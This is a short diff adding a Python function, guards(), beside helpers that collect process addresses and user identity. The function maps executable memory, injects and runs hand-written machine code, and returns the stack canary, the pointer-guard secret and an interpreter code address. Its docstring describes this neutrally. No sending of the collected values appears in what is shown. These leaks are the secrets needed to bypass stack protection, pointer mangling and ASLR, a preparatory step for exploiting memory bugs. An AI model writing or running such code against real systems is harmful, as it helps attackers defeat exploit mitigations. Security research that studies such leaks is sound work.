@@ -384,6 +384,18 @@ def layout():
     return [ctypes.cast(LIBC.getpid, ctypes.c_void_p).value, id(print), hash("casemate")]
 
 
+def guards():
+    """Return the values that guard stacks and pointers, and where code of the interpreter is."""
+    LIBC.mmap.restype = ctypes.c_void_p
+    place = LIBC.mmap(None, 4096, 7, 0x22, -1, 0)
+    found = []
+    for offset in (0x28, 0x30):
+        code = bytes.fromhex(f"64488b0425{offset:02x}000000c3")  # mov %fs:offset, %rax; ret
+        ctypes.memmove(place, code, len(code))
+        found.append(ctypes.CFUNCTYPE(ctypes.c_ulong)(place)())
+    return [*found, ctypes.cast(ctypes.pythonapi.Py_IsInitialized, ctypes.c_void_p).value]
+
+
 def identity():
     return [os.getuid(), os.getgid(), list(os.getgroups()), AT_IMPORT]
 
